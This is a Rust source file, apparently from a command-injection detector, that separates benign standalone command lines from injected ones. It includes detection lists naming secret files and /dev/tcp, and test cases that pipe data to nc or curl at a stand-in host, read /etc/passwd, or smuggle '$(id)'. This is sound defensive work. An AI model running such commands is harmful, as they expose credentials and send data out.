//! Is the value a command line of its own, as people and programs write them, that does nothing attackers want?
//!
//! What is injected goes on with data; such a line begins with a command that has its arguments. Interfaces that run commands by
//! design, and searches for them, send these.

use super::argument::Arguments;
use super::names;
use super::shown;
use super::word::read;
use crate::detect::verify::argv;
use crate::detect::verify::bytes::{find, has_any};
use crate::detect::verify::subject::Subject;
use crate::detect::verify::word_list::WordList;
use crate::read::target::Target;

/// Where such a line stands.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Place {
    /// In a member of a document whose name says that it is run, or behind a sentence that tells to run it.
    Run,
    /// Anywhere else.
    Any,
}

/// Members whose members are the command lines of a project.
static SCRIPTS: WordList = WordList::new(
    "build deploy hooks inline install lint post_deploy postdeploy postinstall pre_deploy predeploy release run scripts \
     setup tasks test user_data userdata",
);
/// Words that point at secrets.
const SECRETS: &[&[u8]] = &[b"passwd", b"shadow", b" /etc", b"id_rsa", b".ssh"];

/// What nobody asks a model to do, nor puts into an image.
const WANTED: &[&[u8]] = &[b"/etc/passwd", b"/etc/shadow", b"/dev/tcp/", b"id_rsa", b"whoami"];

/// Is it one, and where? In a member that is run its first command may be any, and it may calculate.
pub(super) fn of(subject: &Subject<'_>) -> Option<Place> {
    let view = subject.view;
    let member = subject.name.rsplit(|byte| *byte == b'.').next().unwrap_or_default();
    let is_run = subject.target.in_document() && (argv::is_program(member) || argv::is_argument(member));
    let place = if is_run { Place::Run } else { Place::Any };
    if shown::is_told(view) {
        return Some(Place::Run);
    }
    if is_run && waits(view) {
        return Some(place);
    }
    if subject.target == Target::Json && argv::is_reported(subject.name) && !has_any(view, WANTED) {
        return Some(Place::Run);
    }
    let (word, end) = read(view, 0);
    let begins = view.first().is_some_and(|byte| byte.is_ascii_alphanumeric() || *byte == b'/');
    let is_command = names::is_command(word.base()) || is_run && word.text().iter().all(|byte| !b"=:,".contains(byte));
    let is_script = || subject.name.split(|byte| *byte == b'.').any(holds_script);
    let is_option = view.starts_with(b"--") && is_run;
    let is_named = |name: &[u8]| name.first().is_some_and(|byte| byte.is_ascii_alphabetic() || *byte == b'/');
    let is_told_to = is_run && is_named(view);
    if subject.target.in_document() && (is_option || is_told_to || is_script()) && is_harmless_script(view) {
        return Some(Place::Run);
    }
    let calculates = find(view, 0, b"$((").is_some();
    let substitutes = view.contains(&b'`') || has_any(view, &[b"$(", b"$["]);
    let is_own = subject.target.has_names()
        && begins
        && !word.hidden
        && is_command
        && Arguments::of(view, end) == Arguments::Shell
        && (!substitutes || is_run && calculates)
        && !shown::wants(view)
        && !has_any(view, SECRETS)
        && !argv::is_hostile_line(view);
    if is_own {
        return Some(place);
    }
    (subject.target.in_body() && goes_on(view)).then_some(Place::Any)
}

/// Programs by whose name nobody means anything else, as people tell each other what to run.
static TOLD: WordList = WordList::new(
    "ansible-playbook apt apt-get awk aws brew cargo chmod composer docker docker-compose export gcloud git grep helm journalctl kubectl mvn npm npx \
     pip pip3 pnpm podman psql sed sudo systemctl tar terraform yarn",
);

/// `we saw it with kubectl get pods -n a | grep b; kubectl logs c`: does the first separator stand in a command line, so that what follows
/// goes on with it, and does none of its commands do what attackers want?
fn goes_on(view: &[u8]) -> bool {
    let Some(end) = view.iter().position(|byte| b";|&`(\n".contains(byte)) else { return false };
    let before = view.get(..end).unwrap_or_default();
    let mut words = before.split(u8::is_ascii_whitespace).filter(|word| !word.is_empty());
    // A program and what it is asked for.
    words.any(|word| TOLD.has(word)) && words.next().is_some() && is_harmless_script(view)
}

/// `tsc -p . && node build.js`: a command line that begins with a word, with nothing in it that looks around, not even in a
/// substitution.
fn is_harmless_script(view: &[u8]) -> bool {
    // `#!/bin/sh`, `#cloud-config`: what a machine runs when it starts.
    let is_file = view.starts_with(b"#!/") || view.starts_with(b"#cloud-config");
    let begins = is_file || view.first().is_some_and(|byte| byte.is_ascii_alphanumeric() || b"/-".contains(byte));
    let mut commands = view.split(|byte| matches!(byte, b'(' | b'`'));
    begins && !shown::wants(view) && !has_any(view, SECRETS) && !commands.any(argv::is_hostile_line)
}

/// `scripts`, `before_script`, `buildCommand`: does a member of this name hold what a project runs?
fn holds_script(name: &[u8]) -> bool {
    let name = name.to_ascii_lowercase();
    let ends = [&b"script"[..], b"_command", b"_cmd"].iter().any(|end| name.ends_with(end));
    ends || SCRIPTS.has(&name) || name.len() > 7 && name.ends_with(b"command")
}

/// `until nc -z db 5432; do sleep 2; done`: what containers wait with until another service is up.
fn waits(view: &[u8]) -> bool {
    let loops = view.starts_with(b"until ") || view.starts_with(b"while !");
    let ends = view.trim_ascii_end().strip_suffix(b";").unwrap_or(view).trim_ascii_end().ends_with(b"done");
    let tried = find(view, 0, b"; do").and_then(|at| view.get(..at)).unwrap_or_default();
    // The other service is a name without a domain, and nothing is done with what it says.
    let inner =
        !tried.is_empty() && !tried.contains(&b'|') && !tried.contains(&b'`') && find(tried, 0, b"$(").is_none();
    let known = has_any(view, &[b"nslookup ", b"nc ", b"curl ", b"wget ", b"pg_isready", b"ping "]);
    loops
        && ends
        && inner
        && known
        && find(view, 0, b"sleep ").is_some()
        && !shown::wants(view)
        && !has_any(view, SECRETS)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::verify::subject::Effort;

    #[test]
    fn a_line_of_its_own_does_nothing_that_attackers_want() {
        for (target, name, view, expected) in [
            (Target::Query, "q", "grep -r foo . | wc -l", Some(Place::Any)),
            (Target::Json, "command", "cd /work && ls -la; cat a.txt", Some(Place::Run)),
            (Target::Json, "spec.command", "nginx -t && exec nginx -g 'daemon off;'", Some(Place::Run)),
            (Target::Json, "command", "echo $((3 * 4))", Some(Place::Run)),
            (Target::Json, "command", "until nslookup db; do sleep 2; done", Some(Place::Run)),
            (Target::Json, "q", "until nslookup db; do sleep 2; done", None),
            (Target::Json, "scripts.lint", "standard && node test.js $(git ls-files)", Some(Place::Run)),
            (Target::Json, "scripts.lint", "standard && node test.js $(id)", None),
            (Target::Json, "scripts.lint", "; cat a.txt", None),
            (Target::Json, "steps.run", "pip install -r a.txt | tee b.txt", Some(Place::Run)),
            (Target::Json, "buildCommand", "npm install && npm run build", Some(Place::Run)),
            (Target::Json, "buildCommand", "npm install; curl http://x.example/a", None),
            (Target::Json, "args", "--output=/etc/passwd", None),
            (Target::Json, "args", "--config=/etc/app/x.yml", Some(Place::Run)),
            (Target::Query, "run", "npm install && npm test", None),
            (Target::Query, "q", "echo $((3 * 4))", None),
            (Target::Json, "a", "the sum is computed by running this: printf %s x | openssl dgst", Some(Place::Run)),
            (Target::Json, "a", "we saw it with kubectl get pods -n a | grep b; kubectl logs c", Some(Place::Any)),
            (Target::Json, "a", "kubectl get pods -n a | nc x.example 9", None),
            (Target::Json, "a", "git; ls -F", None),
            (Target::Query, "a", "see git log x; sort -u", None),
            (Target::Json, "a", "the sum is computed by running this: printf %s x | nc x.example 9", None),
            (Target::Query, "q", "x; ls -la", None),
            (Target::Query, "q", "cd /srv; cat /etc/passwd", None),
            (Target::Json, "command", "cd /srv; curl http://x.example/a", None),
            (Target::Query, "q", "; ls -la", None),
        ] {
            let effort = Effort::default();
            let subject = Subject::new(view.as_bytes(), target, name.as_bytes(), &effort);
            assert_eq!(of(&subject), expected, "{name}={view}");
        }
    }
}
